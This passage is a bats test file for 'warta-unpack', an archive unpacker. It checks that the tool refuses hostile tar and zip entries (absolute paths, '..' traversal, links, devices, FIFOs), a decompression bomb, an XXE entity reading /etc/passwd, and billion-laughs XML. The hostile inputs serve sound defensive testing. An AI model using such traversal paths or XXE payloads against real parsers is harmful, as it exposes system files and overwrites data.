	expect "listed beside a refused entry" "$(printf '%s\n' "$output" | tail -n +2 | cut -f1)" \
	    urn:newsml:warta.invalid:20210810:0fb56732ef35c24e
}

@test "hostile tar: absolute, '..', symlink, hardlink, device, FIFO: refused, reported, nothing outside DIR" {
	# The archives, $F/evil/KIND.tar, are made in setup_file; $F/pwned is
	# where the absolute entry points.  Each kind is extracted under a
	# directory of its own, $T/KIND/out/a/b, all made by one mkdir.
	local kind entry what out ev kinds=(abs dotdot symlink hardlink device fifo) dirs=() files
	for kind in "${kinds[@]}"; do
		dirs+=("$T/$kind/out/a/b")
	done
	mkdir -p "${dirs[@]}"
	for kind in "${kinds[@]}"; do
		case $kind in
		abs) entry=$F/pwned/abs.xml what='an absolute path' ;;
		dotdot) entry=evil/data/../../../pwned/dotdot.xml what="a path with a '..' component" ;;
		symlink) entry=evil/data/link.xml what='a symbolic link' ;;
		hardlink) entry=evil/data/hard.xml what='a hard link' ;;
		device) entry=evil/data/dev.xml what='a device' ;;
		fifo) entry=evil/data/fifo.xml what='a FIFO' ;;
		esac
		out=$T/$kind/out ev=$F/evil/$kind.tar
		qrun -1 warta-unpack -C "$out/a/b" "$ev"
		has "$kind" "$stderr" "warta-unpack: $ev: $entry: $what refused"
		# Nothing where the entry points, nothing but the good item's
		# three files, no link, no device, no FIFO.
		[ ! -e "$F/pwned" ] && [ ! -e "$T/pwned" ] ||
		    { echo "$kind: $F/pwned or $T/pwned exists"; return 1; }
		[ ! -e "$out/pwned" ] && [ ! -e "$out/a/pwned" ] ||
		    { echo "$kind: a pwned directory under out"; return 1; }
		mapfile -t files < <(cd "$out/a/b" && find . ! -type d | sort)
		expect "$kind: files" "${files[*]}" \
		    './evil/data/items/x.xml ./evil/data/originals/x.txt ./evil/data/text/x.txt'
		# The listing and the stream refuse it too.
		qrun -1 warta-unpack -t "$ev"
		has "$kind -t" "$stderr" "$entry: $what refused"
		lacks "$kind -t" "$output" 'root:'
		qrun -1 warta-unpack "$ev"
		has "$kind stream" "$stderr" "$entry: $what refused"
		lacks "$kind stream" "$output" 'root:'
	done
}

@test "hostile zip: absolute, '..', symlink: refused, reported, nothing outside DIR" {
	# The archives, $F/evilzip/KIND.zip, are made in setup_file; $F/pwned
	# is where the absolute entry points.
	local z out files
	mkdir -p "$T/abs/out/a/b" "$T/dotdot/out/a/b" "$T/symlink/out/a/b"
	for z in abs dotdot symlink; do
		out=$T/$z/out
		qrun -1 warta-unpack -C "$out/a/b" "$F/evilzip/$z.zip"
		has "$z.zip" "$stderr" refused
		[ ! -e "$F/pwned" ] && [ ! -e "$T/pwned" ] && [ ! -e "$out/pwned" ] && [ ! -e "$out/a/pwned" ] ||
		    { echo "$z.zip: written outside"; return 1; }
		mapfile -t files < <(cd "$out/a/b" && find . ! -type d | sort)
		expect "$z.zip: files" "${files[*]}" \
		    './evil/data/items/x.xml ./evil/data/originals/x.txt ./evil/data/text/x.txt'
		qrun -1 warta-unpack "$F/evilzip/$z.zip"
		lacks "$z.zip stream" "$output" 'root:'
	done
}

@test "a decompression bomb (300 MB of zeros in a tar.gz) stops on --max-ratio, fast and small" {
	# $F/bomb.tar.gz: made in setup_file, 3 entries of 100 MB of zeros.
	cp "$F/bomb.tar.gz" "$T/bomb.tar.gz"
	[ "$(stat -c %s "$T/bomb.tar.gz")" -lt 1000000 ]
	local mode start
	for mode in -t --stream -C; do
		start=${EPOCHREALTIME/./}
		case $mode in
		-t) qrun -1 /usr/bin/time -f '%M' warta-unpack -t "$T/bomb.tar.gz" ;;
		--stream) qrun -1 /usr/bin/time -f '%M' warta-unpack "$T/bomb.tar.gz" ;;
		-C) qrun -1 /usr/bin/time -f '%M' warta-unpack -C "$T/out" "$T/bomb.tar.gz" ;;
		esac
		has "$mode" "$stderr" 'a decompression bomb? (--max-ratio)'
		[ $(( (${EPOCHREALTIME/./} - start) / 1000 )) -lt 5000 ] ||
		    { echo "$mode: too slow"; return 1; }
		# Peak memory (KB, the last line of time's output) well under the
		# 300 MB inside.
		[ "${stderr_lines[-1]}" -lt 100000 ] ||
		    { echo "$mode: ${stderr_lines[-1]} KB"; return 1; }
	done
	[ ! -e "$T/out" ] || [ -z "$(find "$T/out" -type f)" ]
	# Raised, the bound lets it through to the next one.
	qrun -1 warta-unpack -t --max-ratio 100000 --max-bytes 150M "$T/bomb.tar.gz"
	has raised "$stderr" '(--max-bytes)'
}

@test "--max-entries: a small bound stops the reading with a message naming it" {
	qrun -1 warta-unpack -t --max-entries 5 "$B"
	has stderr "$stderr" "warta-unpack: $B: more than 5 entries (--max-entries)"
	qrun -1 warta-unpack --max-entries 5 "$B"
	has stderr "$stderr" '(--max-entries)'
	qrun -1 warta-unpack -C "$T/out" --max-entries 5 "$B"
	has stderr "$stderr" '(--max-entries)'
	# Enough for the bag: every entry, the directories included.
	run -0 warta-unpack -t --tsv --max-entries 1000 "$B"
	expect rows $((${#lines[@]} - 1)) "$NITEMS"
}

@test "an XXE item and a billion-laughs item in a bundle: refused, /etc/passwd never in the output" {
	local top=$T/xbag
	bag "$T" xbag
	# The seed with a DOCTYPE: an external entity in the first paragraph.
	sed '1a <!DOCTYPE newsItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' \
	    "$top/data/x.xml" | sed '0,/<p>/s//<p>\&xxe;/' >"$top/data/xxe.xml"
	# $F/lol.xml: x.xml with a billion laughs, made in setup_file.
	cp "$F/lol.xml" "$top/data/lol.xml"
	grep -q 'SYSTEM "file:///etc/passwd"' "$top/data/xxe.xml"
	grep -q '<p>&xxe;' "$top/data/xxe.xml"
	grep -q '<p>&lol9;' "$top/data/lol.xml"
	tar -czf "$T/x.tar.gz" -C "$T" xbag
	local secret
	secret=$(head -1 /etc/passwd)
	qrun -1 warta-unpack "$T/x.tar.gz"
	has stream "$stderr" "$T/x.tar.gz: data/xxe.xml: DOCTYPE refused" "$T/x.tar.gz: data/lol.xml: DOCTYPE refused"
	lacks stream "$output$stderr" "$secret" lollollol
	expect "stream items" "$(grep -c '<newsItem ' <<<"$output")" 1
	qrun -1 warta-unpack -t --grep root "$T/x.tar.gz"
	has list "$stderr" 'data/xxe.xml: DOCTYPE refused' 'data/lol.xml: DOCTYPE refused'
	lacks list "$output$stderr" "$secret"
	qrun -1 warta-unpack -C "$T/out" "$T/x.tar.gz"
	has extract "$stderr" 'data/xxe.xml: DOCTYPE refused' "warta-unpack: 1 of 1 items selected, 3 files written"
	run grep -rlF -e "$secret" -e lollollol "$T/out"
	[ -z "$output" ]
	[ ! -e "$T/out/xbag/data/items/xxe.xml" ] && [ ! -e "$T/out/xbag/data/items/lol.xml" ]
}

@test "a bundle that is not there, or not an archive: exit 1, named" {
	qrun -1 warta-unpack -t "$T/nothing.tar.gz"
	has stderr "$stderr" "warta-unpack: $T/nothing.tar.gz: "
	echo 'not an archive' >"$T/text.tar.gz"
	qrun -1 warta-unpack -t "$T/text.tar.gz"
	has stderr "$stderr" "warta-unpack: $T/text.tar.gz: "
	# The good bundle beside them is still read.
	qrun -1 warta-unpack -t --tsv "$T/nothing.tar.gz" "$B"
	expect rows $((${#lines[@]} - 1)) "$NITEMS"
}

@test "usage: no bundle, --tsv or --json without -t, a bad --date, a bad --grep: exit 2" {
	usage_error
	usage_error -t
	usage_error --tsv "$B"
	usage_error --json "$B"
	usage_error -C "$T/out" --tsv "$B"
	usage_error --date 21 "$B"
	usage_error --date 2021-8 "$B"
	usage_error --date 2021/08/10 "$B"
	usage_error --date yesterday "$B"
	usage_error --date .. "$B"
	usage_error --date 2021..2022..2023 "$B"
	usage_error --grep '(' "$B"
	usage_error --grep '[a-' "$B"
	usage_error --max-ratio 0 "$B"
	usage_error --max-entries lots "$B"
	usage_error --no-such-option "$B"
	usage_error -C
	[ ! -e "$T/out" ]
	run -0 warta-unpack --help
	has help "$output" 'usage: warta-unpack'
	run -0 warta-unpack --version
	expect version "$output" 'warta-unpack 0.1.0'
}

@test "usage: --date with a month or a day that no calendar has: exit 2" {
	usage_error --date 2021-13 "$B"
	usage_error --date 2021-00 "$B"
	usage_error --date 2021-08-32 "$B"
	usage_error --date 2021-13..2022 "$B"
}
